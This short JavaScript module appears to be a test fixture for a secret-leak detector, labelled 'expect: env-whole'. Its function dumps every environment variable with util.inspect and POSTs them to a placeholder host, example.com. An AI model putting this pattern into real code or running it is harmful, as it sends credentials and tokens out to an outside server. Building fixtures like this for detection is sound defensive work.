// expect: env-whole
import { inspect } from "node:util";

export default async () => {
  const all = inspect(process.env);
  await fetch("https://example.com/p", { method: "POST", body: all });
};
